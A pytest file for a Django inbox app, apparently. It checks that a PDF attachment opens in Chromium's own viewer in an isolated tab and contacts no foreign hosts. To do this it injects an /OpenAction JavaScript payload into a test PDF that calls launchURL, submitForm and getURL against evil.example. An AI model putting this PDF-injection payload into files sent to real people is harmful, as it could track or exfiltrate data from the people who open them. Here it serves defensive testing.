"""A customer's PDF is read in the browser's own viewer, in a tab of its own, and does nothing there."""

import io
import uuid
from urllib.parse import urlsplit

import pytest
from django.db import transaction
from django.utils import timezone
from django_scopes import scope
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from conversations import outbound
from conversations.models import Conversation, Message
from documents import outgoing

from ..browsing import ARGUMENTS, CHROMIUM
from .shop import WAITS

# What a PDF may ask its viewer to do when it is opened.
ACTS = """
app.launchURL("https://evil.example/opened", true);
this.submitForm({cURL: "https://evil.example/sent"});
this.getURL("https://evil.example/got");
"""


@pytest.fixture(scope="module")
def chromium(here, playwright):
    """The build without windows shows no PDF."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed")
    browser = here(playwright.chromium.launch, executable_path=CHROMIUM, args=ARGUMENTS)
    yield browser
    here(browser.close)


def green_page() -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (600, 600), (0, 160, 80)).save(held, "PDF")
    return held.getvalue()


def with_acts(content: bytes) -> bytes:
    writer, held = PdfWriter(clone_from=PdfReader(io.BytesIO(content))), io.BytesIO()
    act = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject(ACTS)}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(name): value for name, value in act.items()}
    )
    writer.write(held)
    return held.getvalue()


@pytest.fixture
def sent(shop):
    """Sends a PDF in a conversation; it is gone after the test."""
    made = []

    def send(content: bytes) -> Message:
        with scope(business=shop.business):
            conversation = Conversation.objects.get(contact__phone=WAITS.phone, state="open")
            ref = uuid.uuid4()
            with transaction.atomic():
                outbound.queue_text(conversation, "The bill", by=shop.agent, client_ref=ref, now=timezone.now())
                message = Message.objects.get(client_ref=ref)
                document = outgoing.receive(shop.business, io.BytesIO(content), "bill.pdf", by=shop.agent)
                outgoing.attach(document, message)
                Message.objects.filter(pk=message.pk).update(kind="document")
        made.append((document, message))
        return message

    yield send
    with scope(business=shop.business):
        for document, message in made:
            document.delete()
            message.delete()


@pytest.mark.parametrize("content", [green_page(), with_acts(green_page())], ids=["plain", "acting"])
def test_a_pdf_is_shown_in_a_tab_of_its_own_and_asks_nobody(here, opened, shop, sent, server, content):
    message = sent(content)
    page, problems = opened(shop.agent)
    asked = []

    def look() -> tuple[str, str, bool]:
        page.context.on("request", lambda request: asked.append(request.url))
        page.goto(f"/inbox/{message.conversation_id}")
        with page.context.expect_page() as opening:
            page.click(f"#m-{message.pk} a.file-card")
        tab = opening.value
        for _ in range(100):
            if _is_green(tab.screenshot()):
                break
            tab.wait_for_timeout(100)
        return tab.url, _is_green(tab.screenshot()), tab.evaluate("window.opener === null")

    url, is_shown, is_alone = here(look)
    assert (urlsplit(url).path, is_shown, is_alone) == (f"/media/{_document_of(message, shop)}", True, True)
    foreign = [one for one in asked if urlsplit(one).scheme in ("http", "https") and not one.startswith(server)]
    assert foreign == []
    assert problems == []


def _document_of(message: Message, shop):
    with scope(business=shop.business):
        return Message.objects.get(pk=message.pk).document.pk


def _is_green(picture: bytes) -> bool:
    """Whether a good part of the screen has the page's colour."""
    image = Image.open(io.BytesIO(picture)).convert("RGB").resize((64, 40))
    near = [
        abs(r) < 40 and abs(g - 160) < 40 and abs(b - 80) < 40
        for r, g, b in (image.getpixel((x, y)) for x in range(64) for y in range(40))
    ]
    return sum(near) > len(near) / 10
